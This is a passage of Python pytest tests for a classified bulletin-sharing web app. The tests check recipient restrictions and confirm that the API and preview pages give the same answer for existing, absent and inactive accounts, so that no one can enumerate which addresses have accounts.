    peer = world.user("lucy@kowhai.example", orgs["peer"], clearance="IN-CONFIDENCE")
    red = dict(classification="IN-CONFIDENCE", tlp="RED", indicators=[])
    for outsider in ("rangi@port.example", "nobody@nowhere.example"):
        refused = post(client, people["priya"][1], good(**red, audience={"users": [outsider]}))
        assert refused.status_code == 400
        message = refused.get_json()["error"]["fields"]["audience.users"][0]
        assert message.replace(outsider, "X").startswith("No one your organisation may address")
    assert _count(Bulletin) == 0
    allowed = post(client, people["priya"][1], good(**red, audience={"users": ["nadia@fiu.example", peer.email]}))
    assert allowed.status_code == 201, allowed.get_json()
    agency = post(client, people["aroha"][1], good(**red, audience={"users": ["rangi@port.example"]}))
    assert agency.status_code == 201  # an agency addresses anyone


# --- Named people: no answer tells which addresses have an account (issue 13, class 7) ----------

def _answer(response):
    """What an author learns from an answer, leaving out what names this one bulletin."""
    body = response.get_json()
    if "error" in body:
        return response.status_code, body
    return response.status_code, {k: body.get(k) for k in ("status", "version", "classification", "tlp")}


@pytest.mark.parametrize("variant", [{}, {"classification": "SECRET"}, {"tlp": "RED"}])
def test_class_no_such_user_error_enumerates_accounts_audience_users_answer_alike(client, people, variant):
    """A named person who has an account and one who has none get the same answer, valid or not."""
    def attempt(address):
        body = good(audience={"orgs": ["harbour-bank"], "users": [address]}, publish=False, **variant)
        return _answer(post(client, people["aroha"][1], body))

    existing = attempt("nadia@fiu.example")
    absent = attempt("nobody-here@fiu.example")
    assert existing == absent
    inactive_user = people["rangi"][0]
    inactive_user.active = False
    db.session.commit()
    assert attempt("rangi@port.example") == absent
    # What an author needs is still checked: a value that is not an e-mail address is refused.
    malformed = post(client, people["aroha"][1], good(audience={"orgs": ["harbour-bank"], "users": ["nadia at fiu"]}))
    assert malformed.status_code == 400 and "nadia at fiu" in " ".join(
        malformed.get_json()["error"]["fields"]["audience.users"])


def test_class_no_such_user_error_enumerates_accounts_preview_counts_named_people_as_written(client, people):
    from tests.test_bulletin_pages import compose

    sign_in(client, people["aroha"][0])

    def preview(users):
        text = compose(client, action="preview", users=users).get_data(as_text=True)
        return re.sub(r'name="csrf_token"[^>]*>', "", text).replace(users, "ADDRESS")

    assert preview("nadia@fiu.example") == preview("nobody-here@fiu.example")
    assert "It also goes to the 1 person you named" in preview("nobody-here@fiu.example")
